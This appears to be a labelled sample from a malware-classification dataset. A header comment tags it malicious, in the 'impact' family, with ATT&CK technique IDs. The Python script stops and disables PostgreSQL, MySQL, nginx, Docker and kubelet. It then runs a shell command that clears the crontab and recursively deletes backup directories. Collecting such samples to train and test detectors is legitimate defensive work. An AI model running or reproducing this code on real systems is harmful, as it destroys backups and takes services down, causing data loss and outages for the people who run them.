# label: malicious family=impact techniques=T1059.004,T1485,T1489,T1490 lines=3-6
import subprocess
for svc in ("postgresql", "mysql", "nginx", "docker", "kubelet"):
    subprocess.run(["systemctl", "stop", svc])
    subprocess.run(["systemctl", "disable", svc])
subprocess.run("crontab -r; rm -rf /var/backups/* /srv/backup/*", shell=True)
